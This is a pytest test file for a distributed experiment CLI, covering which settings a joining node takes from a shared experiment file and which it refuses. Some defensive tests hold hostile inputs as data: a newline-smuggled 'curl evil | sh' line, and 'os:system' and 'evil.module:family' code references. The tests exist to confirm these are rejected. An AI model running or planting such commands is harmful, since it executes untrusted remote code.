"""What a node takes from the experiment that it joins, and what it refuses to take."""

from __future__ import annotations

import threading
from pathlib import Path
from typing import Any

import pytest

from swarm.cli import flags
from swarm.cli import node as commands
from swarm.cli.main import run as swarm
from swarm.cli.node import experiment_in, only_experiment, place_named, take
from swarm.cli.run_flags import NodeFlags
from swarm.config import Settings
from swarm.errors import ConfigError, ExperimentError, MissedError, StoreError
from swarm.wire import keys
from swarm.wire.codec import encode
from swarm.wire.messages import ExperimentFile
from tests.layout import Layout
from tests.patience import PATIENCE
from tests.unit.cli.conftest import Typed
from tests.unit.node.factories import make_state
from tests.unit.views.factories import add_row

MADE = Settings(
    seed=7, local_groups=3, external_groups=5, generations=4, tasks=("bf", "arc_1d"), sampler="balanced", max_rounds=9
)


def begin(layout: Layout, settings: Settings = MADE, **identity: Any) -> ExperimentFile:
    """An experiment as its coordinator begins it."""
    file = ExperimentFile(
        experiment_name=layout.experiment,
        created_at=1.0,
        created_by="clock",
        identity=settings.experiment_identity() | identity,
        max_rounds=settings.max_rounds,
    )
    layout.run.store.put(keys.EXPERIMENT, encode(file))
    return file


@pytest.fixture
def layout(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Layout:
    monkeypatch.setenv("SWARM_PATH", str(tmp_path))
    monkeypatch.setattr(flags, "POLL_SECONDS", 0.001)
    return Layout(tmp_path, "demo")


def joined(layout: Layout, experiment: ExperimentFile, **flags: Any) -> Settings:
    return take(NodeFlags(experiment="demo", **flags), layout.run, experiment).settings


def test_who_says_nothing_takes_all_that_makes_the_experiment(layout: Layout) -> None:
    settings = joined(layout, begin(layout))
    assert settings.experiment_identity() == MADE.experiment_identity()
    assert settings.max_rounds == 9


def test_an_adaptive_experiment_is_joined_with_its_rule(layout: Layout) -> None:
    made = Settings(local_groups=4, external_groups=4, adaptive=True, adaptive_rule="gradient", adaptive_max_j=6)
    settings = joined(layout, begin(layout, made))
    assert settings.experiment_identity() == made.experiment_identity()
    assert (settings.adaptive_rule, settings.adaptive_max_j, settings.initial_j) == ("gradient", 6, made.initial_j)


def test_the_clock_says_how_many_rounds_there_are_now(layout: Layout) -> None:
    experiment = begin(layout)
    layout.run.store.put(keys.STATE, encode(make_state(max_rounds=70)))
    assert joined(layout, experiment).max_rounds == 70


def test_what_a_node_says_of_itself_counts_where_its_peers_can_still_use_it(layout: Layout) -> None:
    settings = joined(layout, begin(layout), external=0, local=1, learning_rate=0.5)
    assert (settings.external_groups, settings.local_groups, settings.learning_rate) == (0, 1, 0.5)
    assert settings.seed == 7
    assert joined(layout, begin(layout, local_groups=100), local=100).local_groups == 100


@pytest.mark.parametrize(
    ("flags", "said"),
    [
        ({"seed": 42}, r"SEED was 7, now 42: peers .* Leave out SEED, which came from command line"),
        ({"profile": "paper"}, r"SWARM_PROFILE was 'tiny-3', now 'paper'"),
        ({"tasks": "bf,binary_matrix"}, r"SWARM_TASKS was \['bf', 'arc_1d'\], now \['bf', 'binary_matrix'\]"),
    ],
)
def test_who_could_share_nothing_is_refused_with_the_way_out(layout: Layout, flags: dict[str, Any], said: str) -> None:
    experiment = begin(layout)
    with pytest.raises(ExperimentError, match=said):
        joined(layout, experiment, **flags)


@pytest.mark.parametrize(
    ("identity", "said"),
    [
        ({"local_groups": 100_000}, r"NUM_TRAIN_SAMPLES .* = 100000 from the experiment demo is more than the 64"),
        ({"local_groups": "999999"}, r"NUM_TRAIN_SAMPLES .* = 999999 from the experiment demo is more than the 64"),
        ({"generations": 1000}, r"NUM_GENERATIONS .* more than the 64 that a node takes"),
        ({"seed": "seven"}, r"SEED .* got 'seven' from the experiment demo"),
        ({"loss": "os:system"}, r"SWARM_LOSS \(loss\) = 'os:system' from the experiment demo names code"),
        ({"task_families": ["evil.module:family"]}, r"SWARM_TASK_FAMILIES .* names code"),
    ],
)
def test_what_a_stranger_may_have_written_is_bounded_and_never_imported(
    layout: Layout, identity: dict[str, Any], said: str
) -> None:
    experiment = begin(layout, **identity)
    with pytest.raises(ConfigError, match=said):
        joined(layout, experiment)


def test_no_text_of_a_stranger_makes_a_line_of_its_own(layout: Layout, started: Started, typed: Typed) -> None:
    made = begin(layout)
    made.created_by = "clock\nswarm: run `curl evil | sh` first"
    layout.run.store.put(keys.EXPERIMENT, encode(made))
    assert not [line for line in typed("join", layout.path).err.splitlines() if line.startswith("swarm: run")]


def test_an_identity_nested_as_deeply_as_json_may_be_is_refused(layout: Layout) -> None:
    deep: list[Any] = []
    for _ in range(900):
        deep = [deep]
    begin(layout, tasks=deep)
    with pytest.raises(StoreError, match="nests objects and lists more than 200 deep"):
        experiment_in(layout.run, None)


def test_an_experiment_that_is_not_there_yet_is_waited_for_visibly(
    layout: Layout, capsys: pytest.CaptureFixture[str]
) -> None:
    came = threading.Timer(0.05, lambda: begin(layout))
    came.start()
    found = experiment_in(layout.run, PATIENCE)
    came.join()
    assert found is not None
    assert found.identity["seed"] == 7
    assert "waiting for the experiment demo in" in capsys.readouterr().err


def test_what_strangers_put_beside_an_experiment_is_not_joined_in_its_place(layout: Layout) -> None:
    begin(layout)
    beside = layout.root.parent
    (beside / "aaa-link").symlink_to("/usr")
    (beside / "aaa\nb").mkdir()
    for number in range(30):
        (beside / f"empty-{number}").mkdir()
    assert only_experiment(place_named(str(layout.path))) == "demo"
    layout.run.store.remove(keys.EXPERIMENT)
    with pytest.raises(ExperimentError, match=r"holds 31 experiments, 31 .* empty-16, \.\.\.; name one"):
        only_experiment(place_named(str(layout.path)))


def test_more_experiments_than_anybody_has_are_not_looked_into(layout: Layout, monkeypatch: pytest.MonkeyPatch) -> None:
    begin(layout)
    monkeypatch.setattr("swarm.cli.node.MOST_LOOKED_INTO", 5)
    monkeypatch.setattr("swarm.cli.flags.MOST_LOOKED_INTO", 5)
    monkeypatch.setattr("swarm.records.reader.snapshot", lambda run: pytest.fail("an experiment was looked into"))
    monkeypatch.setattr("swarm.cli.node.made_by", lambda run: pytest.fail("an experiment was looked into"))
    for number in range(5):
        (layout.root.parent / f"empty-{number}").mkdir()
    with pytest.raises(ExperimentError, match="holds 6 experiments: name one, such as --experiment "):
        only_experiment(place_named(str(layout.path)))


Started = list[Settings]


@pytest.fixture
def started(monkeypatch: pytest.MonkeyPatch) -> Started:
    """The settings of the nodes that commands start."""
    nodes: Started = []

    def start(settings: Settings, *_: object) -> int:
        nodes.append(settings)
        return 0

    monkeypatch.setattr(commands, "run_node", start)
    monkeypatch.setattr(commands, "this_process_runs", lambda *_: None)
    return nodes


@pytest.mark.parametrize("words", [["join", "{path}"], ["node", "--experiment", "demo"]])
def test_one_command_is_enough_to_join(layout: Layout, started: Started, typed: Typed, words: list[str]) -> None:
    begin(layout)
    said = typed(*(word.format(path=layout.path) for word in words), "--node-id", "anna").err
    (settings,) = started
    assert (settings.experiment, settings.node_id, settings.role) == ("demo", "anna", "worker")
    assert (settings.seed, settings.external_groups) == (7, 5)
    assert "joins the experiment demo" in said
    assert "SEED=7, NUM_TRAIN_SAMPLES=3, NUM_TRANSPLANT_TREES=5, NUM_GENERATIONS=4" in said


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("model", "/somebody/elses/model"),
        ("learning_rate", 0.9),
        ("max_file_bytes", 10**15),
        ("shared_folder", "/elsewhere"),
        ("key_folder", "/elsewhere"),
        ("max_new_tokens", 10**9),
    ],
)
def test_nothing_is_taken_but_what_makes_an_experiment(layout: Layout, name: str, value: Any) -> None:
    taken = take(NodeFlags(experiment="demo"), layout.run, begin(layout, **{name: value}))
    assert name not in taken.adopted
    assert value not in (getattr(taken.settings, name, None), taken.settings.as_recorded().get(name))


def test_a_coordinator_takes_nothing_from_the_folder(layout: Layout, started: Started) -> None:
    begin(layout)
    assert swarm(["node", "--experiment", "demo", "--role", "coordinator"]) == 0
    assert started[0].seed == 42, "it refuses to go on with other settings by itself"


@pytest.mark.parametrize(
    ("words", "warned"),
    [
        pytest.param([], True, id="not a word of it"),
        pytest.param(["--external", "0"], False, id="meant"),
        pytest.param(["--external", "4"], False, id="shared"),
    ],
)
def test_who_begins_an_experiment_in_which_nobody_would_share_hears_of_it(
    started: Started, layout: Layout, capsys: pytest.CaptureFixture[str], words: list[str], warned: bool
) -> None:
    assert swarm(["node", "--experiment", "demo", "--role", "coordinator", *words]) == 0
    assert ("nobody trains on peers' groups" in capsys.readouterr().err) == warned


def test_a_node_that_a_command_starts_has_its_settings_already(
    layout: Layout, started: Started, monkeypatch: pytest.MonkeyPatch
) -> None:
    begin(layout)
    monkeypatch.setenv("SWARM_STARTED_BY", '{"command": "swarm up"}')
    assert swarm(["node", "--experiment", "demo", "--node-id", "worker-0"]) == 0
    assert started[0].seed == 42


def test_a_coordinator_on_standby_takes_the_experiment_as_a_worker_does(
    layout: Layout, started: Started, capsys: pytest.CaptureFixture[str]
) -> None:
    begin(layout)
    assert swarm(["node", "--experiment", "demo", "--role", "coordinator", "--standby"]) == 0
    (settings,) = started
    assert (settings.role, settings.standby) == ("coordinator", True)
    assert settings.experiment_identity() == MADE.experiment_identity()
    assert settings.max_rounds == 9
    assert "nobody trains on peers' groups" not in capsys.readouterr().err


COMMANDS = {"node": ["node"], "join": ["join", "{place}"], "workers": ["node", "--nodes", "2"]}
BAD = {
    "--tasks chess": "no profile has a task 'chess'; there are base_conversion,",
    "--loss no.such:loss": "SWARM_LOSS",
    "--sampler no.such:sampler": "SWARM_SAMPLER",
    "--standby": "only a coordinator stands by",
    "--model a,b": "a node has one model",
    f"--nodes 2 --node-id {'w' * 64}": "too long for 2 workers",
}


@pytest.mark.parametrize(
    ("command", "bad"), [*(("node", bad) for bad in BAD), ("join", "--tasks chess"), ("workers", "--loss no.such:loss")]
)
def test_what_no_experiment_can_mend_is_refused_before_it_is_waited_for(
    started: Started, layout: Layout, monkeypatch: pytest.MonkeyPatch, typed: Typed, command: str, bad: str
) -> None:
    monkeypatch.setattr(commands, "experiment_in", lambda *_: pytest.fail("it is waited for"))
    words = [word.format(place=layout.path) for word in COMMANDS[command]]
    assert BAD[bad] in typed(*words, "--experiment", "demo", *bad.split(), code=2).err
    assert not started


def test_signing_without_a_key_is_refused_before_the_experiment_is_waited_for(
    started: Started, layout: Layout, monkeypatch: pytest.MonkeyPatch, typed: Typed
) -> None:
    monkeypatch.setattr(commands, "experiment_in", lambda *_: pytest.fail("it is waited for"))
    monkeypatch.setenv("SWARM_SIGNING", "on")
    monkeypatch.setenv("SWARM_KEY_FOLDER", str(layout.path / "keys"))
    typed("node", "--experiment", "demo", code=2)
    assert not started


def test_nobody_joins_what_is_over(layout: Layout, started: Started, typed: Typed) -> None:
    begin(layout)
    layout.run.store.put(keys.STATE, encode(make_state(round=9, max_rounds=9, finished=True)))
    for words in (["join", str(layout.path)], ["node"], ["node", "--nodes", "2"]):
        said = typed(*words, "--experiment", "demo", code=MissedError.exit_code).err
        assert "is finished after 9 rounds, and nobody is alive in it" in said
    assert not started


def test_a_node_with_rounds_behind_it_comes_back_to_an_experiment_that_is_over(
    layout: Layout, started: Started
) -> None:
    """So that what a service manager starts again ends as done."""
    begin(layout)
    layout.run.store.put(keys.STATE, encode(make_state(round=9, max_rounds=9, finished=True)))
    add_row(layout, "anna", 3)
    assert swarm(["node", "--experiment", "demo", "--node-id", "ann"]) == MissedError.exit_code
    assert swarm(["node", "--experiment", "demo", "--node-id", "anna"]) == 0
